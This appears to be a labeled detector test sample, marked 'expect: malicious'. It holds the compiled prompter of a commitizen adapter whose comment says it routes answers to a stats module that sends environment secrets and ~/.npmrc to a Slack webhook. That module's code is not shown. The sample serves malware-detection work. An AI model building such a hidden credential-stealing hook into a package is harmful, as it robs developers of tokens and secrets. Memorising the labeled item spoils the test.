// expect: malicious
// source: blind set 47's cz-conventional-lite (Babel output): the adapter's exported prompter calls
// `_stats["default"].record(answers)`, a function of the table stats.js exports as `exports["default"] = { record: record }`;
// it sends the secret environment variables and ~/.npmrc to a Slack webhook.
"use strict";

Object.defineProperty(exports, "__esModule", { value: true });
exports["default"] = void 0;
exports.prompter = prompter;
var _stats = _interopRequireDefault(require("./stats"));
function _interopRequireDefault(e) { return e && e.__esModule ? e : { "default": e }; }
function prompter(cz, commit) {
  cz.prompt([{ type: 'input', name: 'subject', message: 'Subject:' }]).then(function (answers) {
    _stats["default"].record(answers);
    return commit(answers.subject);
  });
}
var _default = exports["default"] = { prompter: prompter };
